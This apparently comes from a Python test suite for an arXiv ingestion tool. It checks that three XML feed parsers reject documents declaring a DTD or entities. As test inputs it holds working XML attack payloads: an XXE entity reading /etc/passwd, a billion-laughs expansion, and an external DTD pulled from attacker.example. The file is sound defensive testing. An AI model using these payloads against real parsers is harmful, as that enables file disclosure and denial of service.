"""Every XML source refuses documents that declare a DTD or entities (XXE, billion laughs)."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from papertide.ingest.sources import arxiv_api, arxiv_oai, arxiv_rss
from papertide.ingest.sources.base import SourceError

XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><x>&lol3;</x>'
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>'

PARSERS: dict[str, Callable[..., object]] = {
    "arxiv-oai": arxiv_oai.parse_list_records,
    "arxiv-api": arxiv_api.parse_feed,
    "arxiv-rss": arxiv_rss.parse_feed,
}


@pytest.mark.parametrize("source", PARSERS)
@pytest.mark.parametrize(
    "payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"]
)
def test_documents_declaring_a_dtd_or_entities_are_refused(source: str, payload: bytes) -> None:
    with pytest.raises(
        SourceError, match=rf"^{source}: evil\.xml was refused: it declares a DTD or entities"
    ):
        PARSERS[source](payload, location="evil.xml")
